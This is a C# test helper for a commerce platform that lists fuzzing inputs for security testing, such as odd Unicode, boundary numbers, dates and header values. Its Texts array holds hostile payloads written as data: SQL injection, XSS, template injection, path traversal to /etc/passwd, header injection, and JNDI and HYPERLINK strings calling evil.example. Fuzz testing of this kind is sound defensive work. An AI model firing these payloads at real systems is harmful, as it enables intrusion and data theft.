namespace Commerce.Platform.Tests.Security.Fuzzing;

/// <summary>Values that programs stumble over.</summary>
internal static class FuzzWords
{
    /// <summary>Stands in a body for half a surrogate pair, which no string of .NET survives being encoded with.</summary>
    public const string HalfPair = "@@half-pair@@";

    public static readonly string[] Texts =
    [
        "",
        " ",
        "\u0000",
        "a\u0000b",
        "\u0001\u001f\u007f\u0085",
        "\r\nX-Evil: 1",
        "line\nline",
        "\t",
        HalfPair,
        $"김{HalfPair}하늘",
        "\ufffd",
        "\ufffe\uffff",
        "\u202egnirts",
        "\u200b",
        "👩‍👩‍👧‍👦🍎",
        "é e\u0301 ﬁ İ ı ß",
        "\u1112\u1161\u11ab",
        "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L",
        "' or '1'='1",
        "'; drop table account; --",
        "\\'; select pg_sleep(10) --",
        "$$; select 1 $$",
        "%",
        "_%_",
        "\\",
        "\"",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "{{7*7}}${7*7}",
        "=HYPERLINK(\"http://evil.example\")",
        "../../../../etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "${jndi:ldap://evil.example/a}",
        "null",
        "undefined",
        "NaN",
        "true",
        "-1",
        "0",
        "1e400",
        "99999999999999999999999999999999",
        "0001-01-01",
        "9999-12-31",
        "10000-01-01",
        "2026-02-30",
        "-infinity",
        "0001-01",
        "9999-12",
        "2000-01",
        "00000000-0000-0000-0000-000000000000",
        "ffffffff-ffff-ffff-ffff-ffffffffffff",
        "{01970000-dead-7000-8000-000000000000}",
        "01970000dead70008000000000000000",
        new('x', 101),
        new('가', 300),
        new('a', 5_000),
        new('(', 3_000),
        string.Concat(Enumerable.Repeat("a@", 200)),
        string.Concat(Enumerable.Repeat("사과 ", 40)),
    ];

    /// <summary>As JSON writes them: numbers that fit nowhere, too.</summary>
    public static readonly string[] Numbers =
    [
        "0",
        "-1",
        "1",
        "2147483647",
        "2147483648",
        "-2147483648",
        "9223372036854775807",
        "-9223372036854775808",
        "9223372036854775808",
        "79228162514264337593543950335",
        "79228162514264337593543950336",
        "1e28",
        "1e400",
        "-1e400",
        "1e-400",
        "0.1",
        "14.4999999999999999999999999999",
        "1.0",
        "-0",
        "0.00000000000000000000000000000000001",
    ];

    /// <summary>Other things where one was expected.</summary>
    public static readonly string[] Others =
    [
        "null",
        "true",
        "\"text\"",
        "[]",
        "{}",
        "[null]",
        "[[[[]]]]",
        "{\"a\":{}}",
    ];

    /// <summary>At the ends of calendars.</summary>
    public static readonly string[] Days =
    [
        "0001-01-01",
        "0001-01-02",
        "1582-10-15",
        "1969-12-31",
        "2024-02-29",
        "2026-02-30",
        "9999-12-30",
        "9999-12-31",
    ];

    public static readonly string[] ContentTypes =
    [
        "text/plain",
        "application/xml",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/json; charset=utf-16",
        "application/json; charset=nonsense",
        "text/csv",
        "*/*",
    ];

    public static readonly string[] Headers =
    [
        "",
        "x",
        "key with blanks",
        "clé",
        new('k', 201),
        new('k', 4_000),
        "\"quoted\"",
        "a,b",
        "../..",
        "한글",
    ];
}
